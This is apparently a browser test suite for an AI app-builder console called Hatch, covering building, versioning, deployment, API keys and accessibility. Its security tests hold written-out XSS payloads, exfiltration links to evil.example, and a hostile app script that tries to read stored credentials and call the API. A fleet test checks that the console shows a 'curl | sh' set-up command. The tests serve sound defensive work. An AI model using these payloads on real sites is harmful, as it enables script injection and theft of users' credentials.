// The console, as people use it: in Chromium, against the built Worker.

import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { test } from "node:test";
import { gzipSync } from "node:zlib";
import { inBrowser, startConsole } from "./support/console.js";
import { deployments } from "./support/deployments.js";

const hatch = await startConsole();
const { api, origin, open } = hatch;
const { project, live } = deployments(hatch);
const FIRST_LOAD_BYTES = 100 * 1024;
const PAGE = { "index.html": "<!doctype html><title>Page</title><p>hello" };

const ready = (page) => page.getByRole("button", { name: "Deploy", exact: true }).and(page.locator(":enabled")).first().waitFor();

test("a browser gets the console at /, and a program JSON", async () => {
  const page = await fetch(`${origin}/`, { headers: { accept: "text/html,application/xhtml+xml,*/*;q=0.8" } });
  assert.match(page.headers.get("content-type"), /^text\/html/);
  assert.match(page.headers.get("vary"), /Accept/);
  assert.match(await page.text(), /<div id="console">/);
  for (const accept of ["*/*", "application/json", "application/json, text/html;q=0.5"]) {
    const response = await api("GET", "/", undefined, { accept });
    assert.equal((await response.json()).service, "hatch-api", accept);
  }
});

test("the console's page allows nothing but what is of its own origin, and apps in frames", async () => {
  const page = await fetch(`${origin}/`, { headers: { accept: "text/html" } });
  const policy = page.headers.get("content-security-policy");
  assert.doesNotMatch(policy, /unsafe|\*(?!\.localhost)/);
  for (const part of ["default-src 'none'", "script-src 'self'", "style-src 'self'", "connect-src 'self'", "frame-ancestors 'none'", "base-uri 'none'", "form-action 'none'", "require-trusted-types-for 'script'"]) {
    assert.ok(policy.split("; ").includes(part), part);
  }
  assert.equal(page.headers.get("x-content-type-options"), "nosniff");
});

test("a file of the console is kept forever, for its name is its content's; another is 404", async () => {
  const page = await (await fetch(`${origin}/`, { headers: { accept: "text/html" } })).text();
  const [script] = page.match(/\/console\/console-\w+\.js/);
  const response = await api("GET", script);
  assert.equal(response.headers.get("cache-control"), "public, max-age=31536000, immutable");
  assert.equal((await api("GET", script, undefined, { "if-none-match": response.headers.get("etag") })).status, 304);
  for (const name of ["console-NOTHING.js", "%00", "..%2Fopenapi.json", "%2e%2e%2fdocs.js", "a%2Fb"]) assert.equal((await api("GET", `/console/${name}`)).status, 404, name);
});

test("the first page needs less than 100 KB of script, and a project not much more", inBrowser, async () => {
  const { id } = await project(PAGE);
  for (const hash of ["", `#/build/${id}`]) {
    const scripts = [];
    const page = await open(hash, { prepare: (page) => page.on("response", (response) => /\.js$/.test(new URL(response.url()).pathname) && response.url().startsWith(origin) && scripts.push(response.body())) });
    await page.waitForLoadState("networkidle");
    const bytes = (await Promise.all(scripts)).reduce((sum, body) => sum + gzipSync(body).length, 0);
    assert.ok(bytes > 10_000 && bytes < FIRST_LOAD_BYTES, `${hash}: ${bytes} bytes`);
    await page.done();
  }
});

test("a user describes an app, sees it run, changes it, and deploys it", inBrowser, async () => {
  const page = await open();
  await page.getByRole("textbox", { name: "Describe an app" }).fill("A pomodoro timer with a tomato red look");
  await page.keyboard.press("Enter");
  await page.waitForURL(/#\/build\/[0-9a-f-]{36}$/);

  const files = page.locator(".file-card");
  await files.first().waitFor();
  assert.equal(await page.locator(".message.question").count(), 1);
  await page.getByText("added").first().waitFor();
  assert.ok((await files.count()) >= 2);
  assert.match(await page.locator(".message-foot").last().innerText(), /Version 1.*sandbox.*tokens/s);
  await page.frameLocator(".frame iframe").getByRole("button").first().waitFor();

  await page.getByRole("textbox", { name: "What should change?" }).fill("Make it dark");
  await page.getByRole("button", { name: "Send", exact: true }).click();
  await page.getByText("Version 2").first().waitFor();
  await page.getByText("changed").first().waitFor();

  await page.getByRole("button", { name: "Deploy", exact: true }).click();
  await page.getByRole("dialog").getByRole("button", { name: "Deploy" }).click();
  const address = page.getByRole("listitem").getByRole("link", { name: /localhost/ }).first();
  await address.waitFor();
  const [, id] = page.url().match(/build\/([0-9a-f-]+)\/deployments/);
  await page.getByText(/^Live at http/).waitFor();
  assert.equal((await hatch.worker.fetch(await address.getAttribute("href"))).status, 200);
  assert.equal((await (await api("GET", `/api/projects/${id}`)).json()).status, "deployed");

  await page.getByRole("button", { name: "Take it down" }).first().click();
  await page.getByRole("dialog").getByRole("button", { name: "Take it down" }).click();
  await page.getByText("taken down", { exact: true }).waitFor();
  await page.done();
});

test("a version comes back by one click, and the back button goes through the views", inBrowser, async () => {
  const { id } = await project({ "index.html": "<!doctype html><p>first" });
  const page = await open(`#/build/${id}`);
  await page.frameLocator(".frame iframe").getByText("first").waitFor();
  await api("PATCH", `/api/projects/${id}`, { code: { "index.html": "<!doctype html><p>second" } });
  await page.getByRole("link", { name: "Versions" }).click();
  await page.getByRole("button", { name: "Roll back" }).first().waitFor();
  await page.getByRole("listitem").filter({ hasText: "Version 1" }).getByRole("button", { name: "Roll back" }).click();
  await page.getByRole("listitem").filter({ hasText: "Version 3" }).getByText("current").waitFor();
  assert.deepEqual(JSON.parse((await (await api("GET", `/api/projects/${id}`)).json()).code), { "index.html": "<!doctype html><p>first" });
  await page.goBack();
  await page.frameLocator(".frame iframe").getByText("first").waitFor();
  await page.done();
});

test("an old version's code is read, and any two versions are compared", inBrowser, async () => {
  const { id } = await project({ "index.html": "<!doctype html><p>first", "old.js": "gone()" });
  await api("PATCH", `/api/projects/${id}`, { code: { "index.html": "<!doctype html><p>second", "old.js": "gone()" } });
  await api("PATCH", `/api/projects/${id}`, { code: { "index.html": "<!doctype html><p>third", "new.js": "come()" } });
  const page = await open(`#/build/${id}/versions`);
  await page.getByRole("link", { name: "Version 1", exact: true }).click();
  await page.getByRole("textbox", { name: "Content of index.html" }).getByText("first").waitFor();
  await page.getByRole("combobox", { name: "Compare with" }).selectOption({ label: "Version 3" });
  await page.waitForURL(`${origin}/#/build/${id}/versions/1/3`);
  const files = page.getByRole("navigation", { name: "Changed files" }).getByRole("button");
  await files.nth(2).waitFor();
  assert.deepEqual((await files.allInnerTexts()).map((text) => text.split(/\s+/)), [["index.html", "changed"], ["new.js", "added"], ["old.js", "removed"]]);
  const changes = page.getByRole("textbox", { name: "Changes of index.html" });
  await changes.getByText("third").waitFor();
  assert.match(await changes.innerText(), /first/);
  await page.getByRole("combobox", { name: "From version" }).selectOption({ label: "Version 2" });
  await page.waitForURL(`${origin}/#/build/${id}/versions/2/3`);
  await page.goBack();
  await page.goBack();
  await page.getByRole("button", { name: "Roll back to 1" }).click();
  await page.getByRole("listitem").filter({ hasText: "Version 4" }).getByText("current").waitFor();
  assert.match((await (await api("GET", `/api/projects/${id}`)).json()).code, /first/);
  await page.done();
});

test("deployments are listed wherever they were begun, and the live one is marked", inBrowser, async () => {
  const { id } = await project(PAGE);
  for (let n = 0; n < 12; n += 1) await live(id);
  const page = await open(`#/build/${id}/deployments`);
  const list = page.getByRole("list", { name: "Deployments", exact: true });
  await list.locator(".tag", { hasText: "live" }).waitFor();
  assert.equal(await list.locator(".tag", { hasText: "replaced" }).count(), 9);
  assert.equal(await page.getByRole("button", { name: "Take it down" }).count(), 1);
  await page.getByText(/^Live at http/).waitFor();
  await page.getByRole("button", { name: "Show more" }).click();
  await page.waitForFunction(() => document.querySelectorAll(".deployments > li").length === 12);
  await list.locator("summary").last().click();
  await list.locator("li.card").last().getByText(/^Live at http/).waitFor();
  await page.done();
});

test("an answer is stopped, also at the server, and the code stays as it was", inBrowser, async () => {
  const { id } = await project(PAGE);
  const page = await open(`#/build/${id}`);
  await page.getByRole("textbox", { name: "Describe an app" }).fill("A pomodoro timer");
  await page.keyboard.press("Enter");
  await page.getByText("Writing …").first().waitFor();
  await page.getByRole("button", { name: "Stop the answer" }).click();
  await page.getByText("Stopped. What was written until then is kept").waitFor();
  const shown = async () => (await (await api("GET", `/api/chat/${id}`)).json()).at(-1);
  assert.deepEqual([(await shown()).status, (await shown()).changes], ["interrupted", null]);
  assert.deepEqual(JSON.parse((await (await api("GET", `/api/projects/${id}`)).json()).code), PAGE);
  await page.getByRole("button", { name: "Send it again" }).click();
  await page.getByText("The answer is complete.").waitFor({ state: "attached" });
  assert.equal((await shown()).status, "complete");
  await page.done();
});

test("a picture is pasted, seen, sent, and there again after a reload", inBrowser, async () => {
  const page = await open();
  await page.getByRole("textbox", { name: "Describe an app" }).fill("A tip calculator like this");
  await page.evaluate(async () => {
    const canvas = new OffscreenCanvas(3000, 200);
    canvas.getContext("2d").fillRect(0, 0, 3000, 200);
    const data = new DataTransfer();
    data.items.add(new File([await canvas.convertToBlob()], "sketch.png", { type: "image/png" }));
    document.getElementById("prompt").dispatchEvent(new ClipboardEvent("paste", { clipboardData: data, bubbles: true, cancelable: true }));
  });
  await page.getByRole("img", { name: "Picture 1" }).waitFor();
  await page.locator("input[type=file]").setInputFiles({ name: "notes.txt", mimeType: "text/plain", buffer: Buffer.from("x") });
  await page.getByText("notes.txt is no picture that can be sent.").waitFor();
  await page.locator("#prompt").press("Enter");
  await page.waitForURL(/#\/build\//);
  await page.getByText("The answer is complete.").waitFor({ state: "attached" });
  await page.reload();
  const picture = page.locator(".message.question").getByRole("img", { name: "Picture 1" });
  await picture.waitFor();
  assert.equal(await picture.evaluate((image) => image.naturalWidth), 1568, "it was made smaller");
  await page.done();
});

test("a message sent in one tab appears in the other tab", inBrowser, async () => {
  const { id } = await project(PAGE);
  const page = await open(`#/build/${id}`);
  await ready(page);
  const other = await page.context().newPage();
  await other.goto(`${origin}/#/build/${id}`);
  await other.getByRole("textbox", { name: "Describe an app" }).fill("A tip calculator");
  await other.keyboard.press("Enter");
  await other.getByText("Writing …").first().waitFor();
  const back = () => page.evaluate(() => document.dispatchEvent(new Event("visibilitychange")));
  // While it is written, and when it is done.
  await back();
  await page.locator(".message.question").getByText("A tip calculator").waitFor();
  await page.getByText("Version 2").first().waitFor();
  await other.getByText("The answer is complete.").waitFor({ state: "attached" });
  await other.getByRole("textbox", { name: "What should change?" }).fill("Make it dark");
  await other.keyboard.press("Enter");
  await other.getByText("Version 3").first().waitFor();
  await back();
  await page.getByText("Version 3").first().waitFor();
  for (const each of [page, other]) {
    await each.locator(".message").nth(3).waitFor();
    assert.equal(await each.locator(".message").count(), 4);
  }
  await page.done();
});

test("a change in the editor is a version of its own, unless another one came first", inBrowser, async () => {
  const { id } = await project({ "index.html": "<!doctype html><p>words", "src/a.css": "p{}" });
  const page = await open(`#/build/${id}/code`, { mayFail: /status of 412/ });
  const editor = page.getByRole("textbox", { name: "Editor: index.html" });
  await editor.click();
  await page.keyboard.press("ControlOrMeta+End");
  await page.keyboard.type(" and more");
  await page.getByText("not saved", { exact: true }).first().waitFor();
  await page.getByRole("button", { name: "Save as a version" }).click();
  await page.getByText("Saved as version 2").waitFor();
  const saved = async () => JSON.parse((await (await api("GET", `/api/projects/${id}`)).json()).code)["index.html"];
  assert.equal(await saved(), "<!doctype html><p>words and more");

  await api("PATCH", `/api/projects/${id}`, { code: { "index.html": "theirs" } });
  await editor.click();
  await page.keyboard.type("!");
  await page.keyboard.press("ControlOrMeta+s");
  await page.getByRole("dialog", { name: "The code has changed meanwhile" }).waitFor();
  assert.equal(await saved(), "theirs");
  await page.getByRole("button", { name: "Take the newer one" }).click();
  await page.getByRole("textbox", { name: "Editor: index.html" }).getByText("theirs").waitFor();
  await page.done();
});

test("one click sends a compile error to the model", inBrowser, async () => {
  const { id } = await project({ "index.html": '<!doctype html><div id=root></div><script type=module src=/src/main.ts></script>', "src/main.ts": "const x = ;" });
  const page = await open(`#/build/${id}`, { mayFail: /status of 400/ });
  await page.getByText(/src\/main\.ts:1:\d+/).first().waitFor();
  await page.getByRole("button", { name: "Have it mended" }).click();
  await page.locator(".question").getByText(/does not compile.*src\/main\.ts:1/s).waitFor();
  await page.getByText("The answer is complete.").waitFor({ state: "attached" });
  await page.done();
});

test("errors of the running app are shown, and one click sends them to the model", inBrowser, async () => {
  const { id } = await project({ "index.html": "<!doctype html><p>shown<script src=app.js></script>", "app.js": "setTimeout(() => { throw new Error('the cart is empty') })" });
  const page = await open(`#/build/${id}`);
  await page.getByText("The app reports 1 error").click();
  await page.getByText("the cart is empty").waitFor();
  await page.getByText("/app.js:1").waitFor();
  await page.getByRole("button", { name: "Have them mended" }).click();
  await page.locator(".question").getByText(/the cart is empty/).waitFor();
  await page.done();
});

test("an answer whose connection is cut arrives whole and once", inBrowser, async () => {
  const { id } = await project(PAGE);
  let asked = 0;
  const keys = new Set();
  const page = await open(`#/build/${id}`, {
    mayFail: /ERR_/,
    prepare: (page) => page.route("**/api/chat", async (route) => {
      asked += 1;
      keys.add(await route.request().headerValue("idempotency-key"));
      if (asked > 1) return route.continue();
      const response = await route.fetch();
      const body = await response.text();
      return route.fulfill({ response, body: body.slice(0, body.length / 3) });
    }),
  });
  await page.getByRole("textbox", { name: "What should change?" }).or(page.getByRole("textbox", { name: "Describe an app" })).fill("A tip calculator");
  await page.keyboard.press("Enter");
  await page.getByText("added").or(page.getByText("changed", { exact: true })).first().waitFor();
  await page.getByText("The answer is complete.").waitFor({ state: "attached" });
  assert.equal(asked, 2);
  assert.equal(keys.size, 1);
  const messages = await (await api("GET", `/api/chat/${id}`)).json();
  assert.deepEqual(messages.map(({ role }) => role), ["user", "assistant"]);
  assert.equal(await page.locator(".message").count(), 2);
  await page.done();
});

test("a refused message says why, and is not lost", inBrowser, async () => {
  const { id } = await project(PAGE);
  const page = await open(`#/build/${id}`, {
    mayFail: /status of 429/,
    prepare: (page) => page.route("**/api/chat", (route) => route.fulfill({
      status: 429, contentType: "application/problem+json", headers: { "retry-after": "10" },
      body: JSON.stringify({ code: "rate_limited", detail: "Claude's rate limit is reached" }),
    })),
  });
  await page.getByRole("textbox", { name: "Describe an app" }).fill("A tip calculator");
  await page.keyboard.press("Enter");
  await page.getByRole("alert").getByText("Claude's rate limit is reached").waitFor();
  await page.getByText("You can try again in 10 s.").waitFor();
  await page.getByRole("button", { name: "Edit it first" }).click();
  assert.equal(await page.locator("#prompt").inputValue(), "A tip calculator");
  await page.done();
});

test("a page that is reloaded during an answer shows it to its end", inBrowser, async () => {
  const page = await open();
  await page.getByRole("textbox", { name: "Describe an app" }).fill("A recipe box");
  await page.keyboard.press("Enter");
  await page.waitForURL(/#\/build\//);
  const [, id] = page.url().match(/build\/([0-9a-f-]+)/);
  await page.getByText("Writing …").first().waitFor();
  await page.reload();
  await page.getByText("The answer is complete.").waitFor({ state: "attached" });
  assert.equal((await (await api("GET", `/api/chat/${id}`)).json()).length, 2);
  assert.deepEqual([await page.locator(".message.question").count(), await page.locator(".message.reply").count()], [1, 1]);
  await page.done();
});

const HOSTILE = `![picture](https://evil.example/p?leak=SECRET)
![reference][ref]
<img src=x onerror="self.hacked=1"> <img src="https://evil.example/q">
<link rel=prefetch href="https://evil.example/r"><style>@import url(https://evil.example/s);</style>
<p style="background:url(https://evil.example/t)">styled</p>
<svg></p><style><a id="</style><img src=1 onerror=self.hacked=1>">
<details open ontoggle="self.hacked=1"><summary>x</summary></details>
<iframe src="javascript:parent.hacked=1"></iframe><form action="https://evil.example"><button>go</button></form>
[script](javascript:self.hacked=1) [split](java\nscript:self.hacked=1) [entity](&#106;avascript:self.hacked=1) [data](data:text/html,x) [zip](https://example.com/a.zip)
<script>self.hacked=1</script>

[ref]: https://evil.example/u

\`\`\`html:<img src=x onerror=self.hacked=1>.html
<script>self.hacked=1</script>
\`\`\`
`;

test("hostile markup in an answer is shown as text: it runs nothing and requests nothing", inBrowser, async () => {
  const { id, userId } = await project(PAGE, `<img src=x onerror="self.hacked=1">`);
  const insert = "INSERT INTO chat_messages (id, project_id, user_id, seq, role, content, status, created_at) VALUES (?, ?, ?, ?, ?, ?, 'complete', ?)";
  for (const [seq, role] of [[1, "user"], [2, "assistant"]]) await hatch.sql(insert, crypto.randomUUID(), id, userId, seq, role, HOSTILE, Date.now());
  const page = await open(`#/build/${id}`);
  await page.locator(".message.reply").waitFor();
  const found = await page.evaluate(() => ({
    hacked: self.hacked,
    elements: document.querySelectorAll(".message :is(img, script, style, link, iframe, form, svg:not(.icon), object, embed, video, audio, base, meta)").length,
    attributes: [...document.querySelectorAll(".answer *")].flatMap((element) => element.getAttributeNames().filter((name) => /^on|^style$|^srcdoc$/.test(name))),
    links: [...document.querySelectorAll(".answer a")].map(({ href, rel, target }) => ({ href, rel, target })),
  }));
  assert.deepEqual(found.hacked, undefined);
  assert.equal(found.elements, 0);
  assert.deepEqual(found.attributes, []);
  for (const { href, rel, target } of found.links) {
    assert.match(href, /^(https:|$)/);
    if (href) assert.deepEqual([rel, target], ["noopener noreferrer nofollow", "_blank"]);
  }
  await page.getByText("https://evil.example/p?leak=SECRET").last().waitFor();
  assert.equal(await page.locator(".project-name").innerText(), `<img src=x onerror="self.hacked=1">`);
  await page.done();
});

const rowsOf = () => hatch.sql("SELECT (SELECT count(*) FROM projects) AS projects, (SELECT count(*) FROM api_keys) AS keys");

test("a hostile app reaches neither the console, nor its storage, nor the API", inBrowser, async () => {
  const attack = `<!doctype html><pre id=out></pre><script>
    const out = {}, said = (name, value) => { out[name] = String(value); document.getElementById("out").textContent = JSON.stringify(out); };
    const tried = (name, f) => { try { said(name, f()); } catch (error) { said(name, "refused"); } };
    (async () => {
      tried("document", () => parent.document.title);
      tried("storage", () => parent.localStorage.getItem("hatch.credential"));
      tried("own storage", () => localStorage.getItem("hatch.credential"));
      tried("top", () => { top.location = "https://evil.example/"; return "navigated"; });
      for (const [name, path, init] of [["read", "/api/projects"], ["write", "/api/projects", { method: "POST", headers: { "content-type": "text/plain" }, body: "{}" }], ["me", "/auth/me"], ["key", "/auth/keys", { method: "POST", body: "{}" }]]) {
        try { const r = await fetch("ORIGIN" + path, init); said(name, r.ok ? "read " + (await r.text()).slice(0, 50) : "status " + r.status); } catch { said(name, "refused"); }
      }
      parent.postMessage({ type: "hatch-preview-error", message: "<img src=x onerror=self.hacked=1>", file: {}, line: "x" }, "*");
      said("done", true);
    })();
  </script>`.replaceAll("ORIGIN", origin);
  const { id } = await project({ "index.html": attack });
  const deployment = await live(id);
  const slug = new URL(deployment.url).hostname.split(".")[0];
  const before = await rowsOf();
  for (const how of ["its own origin", "beside the API"]) {
    const page = await open(`#/build/${id}`, {
      // The requests that the app must not make.
      mayFail: /ERR_FAILED .*(\/api\/projects|\/auth\/me|\/auth\/keys)$|\/p\/test-app-/,
      prepare: async (page) => {
        await page.addInitScript(() => location.pathname === "/" && !location.host.includes("-") && localStorage.setItem("hatch.theme", "dark"));
        // Without a domain for apps a preview is beside the API, so the deployment is used instead.
        if (how === "beside the API") await page.route("**/preview", (route) => route.fulfill({ json: { url: `${origin}/p/${slug}/`, expiresAt: new Date().toISOString() } }));
      },
    });
    const out = page.frameLocator(".frame iframe").locator("#out");
    await out.getByText('"done"').waitFor();
    const told = JSON.parse(await out.innerText());
    assert.equal(told.document, "refused", how);
    assert.equal(told.storage, "refused", how);
    assert.equal(told["own storage"], "null", how);
    for (const name of ["top", "read", "write", "me", "key"]) assert.match(told[name], /refused|status 40[13]/, `${how}: ${name}: ${told[name]}`);
    await page.getByText("The app reports").click();
    await page.getByText("<img src=x onerror=self.hacked=1>").first().waitFor();
    assert.equal(await page.evaluate(() => self.hacked), undefined);
    assert.ok(page.url().startsWith(`${origin}/#/build/`));
    await page.done();
  }
  assert.deepEqual(await rowsOf(), before);
});

test("names in other scripts and directions are shown as they are written", inBrowser, async () => {
  const { id } = await project(PAGE, "عدّاد الخطوات");
  await project(PAGE, "歩数計 🐣");
  const page = await open();
  const name = page.getByRole("link", { name: "عدّاد الخطوات" });
  await name.waitFor();
  assert.equal(await name.evaluate((link) => getComputedStyle(link).direction), "rtl");
  await page.getByRole("link", { name: "歩数計 🐣" }).waitFor();
  await page.goto(`${origin}/#/build/${id}`);
  await ready(page);
  assert.equal(await page.title(), "عدّاد الخطوات · Hatch");
  await page.done();
});

test("two hundred projects come page by page", inBrowser, async () => {
  const at = Date.now() - 1_000_000;
  const [{ userId }] = [await project(PAGE, "the newest")];
  await hatch.sql(`WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 200)
    INSERT INTO projects (id, user_id, name, created_at, updated_at) SELECT printf('00000000-0000-4000-8000-%012d', i), ?1, 'Many ' || i, ?2 + i, ?2 + i FROM n`, userId, at);
  const page = await open();
  const more = page.getByRole("button", { name: "Show more" });
  const shown = page.locator(".grid .card");
  for (let pages = 1; await more.isVisible().catch(() => false) || pages === 1; pages += 1) {
    await more.waitFor();
    const before = await shown.count();
    await more.click();
    await page.waitForFunction((before) => document.querySelectorAll(".grid .card").length > before, before);
    if ((await shown.count()) % 24 !== 0) break;
  }
  assert.ok((await shown.count()) >= 201);
  await page.getByRole("link", { name: "Many 1", exact: true }).waitFor();
  await page.done();
});

test("a startup is generated, followed through a reload, and opened in a chat", inBrowser, async () => {
  const page = await open("#/startups");
  await page.getByRole("textbox", { name: "AI scheduling tool for freelancers" }).fill("A booking app for dog walkers");
  await page.getByRole("button", { name: "Generate" }).click();
  await page.waitForURL(/#\/startups\/[0-9a-f-]{36}/);
  await page.reload();
  await page.getByRole("heading", { name: "Competitors" }).waitFor({ timeout: 60_000 });
  await page.frameLocator("iframe.deck").locator("section").first().waitFor();
  const [file] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Download the ZIP" }).click()]);
  assert.match(file.suggestedFilename(), /\.zip$/);
  assert.equal(readFileSync(await file.path()).subarray(0, 2).toString(), "PK");
  await page.getByRole("link", { name: "Go on in a chat" }).click();
  await page.waitForURL(/#\/build\//);
  await page.done();
});

test("an app that is live is found, and remixed", inBrowser, async () => {
  const { id } = await project(PAGE, "Kaleidoscope");
  await live(id);
  const page = await open("#/discover");
  await page.getByRole("searchbox", { name: "Search apps" }).fill("Kaleido");
  await page.waitForURL(/q=Kaleido/);
  await page.getByRole("button", { name: "Remix" }).first().click();
  await page.waitForURL(/#\/build\/[0-9a-f-]{36}/);
  assert.ok(!page.url().includes(id));
  await page.frameLocator(".frame iframe").getByText("hello").waitFor();
  await page.done();
});

test("a machine is added by its wallet, and its set-up command is shown once", inBrowser, async () => {
  const page = await open("#/fleet");
  await page.getByRole("button", { name: "Add a machine" }).click();
  await page.getByRole("textbox", { name: "Wallet of the machine" }).fill("0x1111111111111111111111111111111111111111");
  await page.getByRole("button", { name: "Get its token" }).click();
  const command = await page.getByLabel("Set-up command", { exact: true }).innerText();
  const [, address] = command.match(/^curl -fsSL "(.+)" \| sh$/);
  assert.match(await (await fetch(address)).text(), /^#!\/bin\/sh/);
  await page.getByRole("button", { name: "Done" }).click();
  await page.getByRole("link", { name: "0x1111…1111" }).click();
  await page.getByRole("heading", { name: "Uptime of the last 30 days" }).waitFor();
  await page.done();
});

test("a key is made, shown once, and revoked", inBrowser, async () => {
  const page = await open("#/account/keys");
  await page.getByRole("button", { name: "New key" }).click();
  await page.getByRole("textbox", { name: "Name" }).fill("Shown once");
  await page.getByRole("button", { name: "Make the key" }).click();
  const key = await page.getByLabel("Your key", { exact: true }).filter({ hasText: "hk_" }).last().innerText();
  assert.match(key, /^hk_live_/);
  assert.equal((await api("GET", "/api/projects", undefined, { authorization: `Bearer ${key}` })).status, 200);
  await page.getByRole("button", { name: "Done" }).click();
  assert.ok(!(await page.content()).includes(key));
  await page.getByRole("button", { name: "Revoke Shown once" }).click();
  await page.getByRole("dialog").getByRole("button", { name: "Revoke" }).click();
  await page.getByText("revoked", { exact: true }).waitFor();
  assert.equal((await api("GET", "/api/projects", undefined, { authorization: `Bearer ${key}` })).status, 401);
  await page.done();
});

test("signing in with a key signs in every tab, and a refused key is reported", inBrowser, async () => {
  const { key } = await (await api("POST", "/auth/keys", { name: "k", scopes: ["projects:read"] })).json();
  const page = await open("#/sign-in", { mayFail: /status of 401/ });
  const other = await page.context().newPage();
  await other.goto(`${origin}/#/account`);
  await other.getByText("nothing, for this is your machine").waitFor();
  await page.getByLabel("API key, session or operator's token").fill(key);
  await page.getByRole("button", { name: "Use the key" }).click();
  await page.waitForURL(/#\/$/);
  await other.getByText("an API key", { exact: true }).waitFor();
  await page.goto(`${origin}/#/sign-in`);
  await page.getByLabel("API key, session or operator's token").fill("hk_live_wrong");
  await page.getByRole("button", { name: "Use the key" }).click();
  await page.getByRole("alert").getByText("The key or session is good no longer.").waitFor();
  await page.waitForFunction(() => localStorage.getItem("hatch.credential") === null);
  await page.done();
});

test("the operator's pages list jobs and verify the audit log", inBrowser, async () => {
  await live((await project(PAGE)).id);
  const page = await open("#/operate");
  await page.getByRole("cell", { name: /deploy/ }).first().waitFor();
  await page.getByRole("link", { name: "Audit log" }).click();
  await page.getByRole("button", { name: "Verify" }).click();
  await page.getByText("intact", { exact: true }).waitFor();
  await page.done();
});

test("the keyboard alone is enough to build, and to close a dialog", inBrowser, async () => {
  const page = await open();
  await page.keyboard.press("Tab");
  assert.equal(await page.evaluate(() => document.activeElement.textContent), "Skip to the content");
  await page.keyboard.press("Enter");
  assert.equal(await page.evaluate(() => document.activeElement.id), "main");
  await page.keyboard.press("Tab");
  assert.equal(await page.evaluate(() => document.activeElement.id), "prompt");
  await page.keyboard.type("A memory game");
  await page.keyboard.press("Enter");
  await ready(page);
  await page.getByText("The answer is complete.").waitFor({ state: "attached" });
  await page.getByRole("button", { name: "Deploy", exact: true }).focus();
  await page.keyboard.press("Enter");
  await page.getByRole("dialog").waitFor();
  await page.keyboard.press("Escape");
  await page.getByRole("dialog").waitFor({ state: "detached" });
  assert.equal(await page.evaluate(() => document.activeElement.innerText.trim()), "Deploy");
  await page.done();
});

test("on a slow network the page appears before its parts, and an answer arrives", inBrowser, async () => {
  const page = await open("", {
    prepare: async (page) => {
      const session = await page.context().newCDPSession(page);
      await session.send("Network.emulateNetworkConditions", { offline: false, latency: 300, downloadThroughput: 60_000, uploadThroughput: 30_000 });
    },
  });
  await page.getByRole("textbox", { name: "Describe an app" }).fill("A tip calculator");
  await page.keyboard.press("Enter");
  await page.getByText("The answer is complete.").waitFor({ state: "attached" });
  await page.done();
});

test("a lost connection is shown, and its requests are repeated when it is back", inBrowser, async () => {
  const { id } = await project(PAGE);
  const page = await open(`#/build/${id}`, { mayFail: /ERR_|Failed to load/ });
  await ready(page);
  await page.context().setOffline(true);
  await page.getByRole("link", { name: "Versions" }).click();
  await page.getByRole("alert").getByText("Hatch cannot be reached").waitFor();
  await page.context().setOffline(false);
  await page.getByRole("button", { name: "Try again" }).first().click();
  await page.getByRole("listitem").filter({ hasText: "Version 1" }).waitFor();
  await page.done();
});
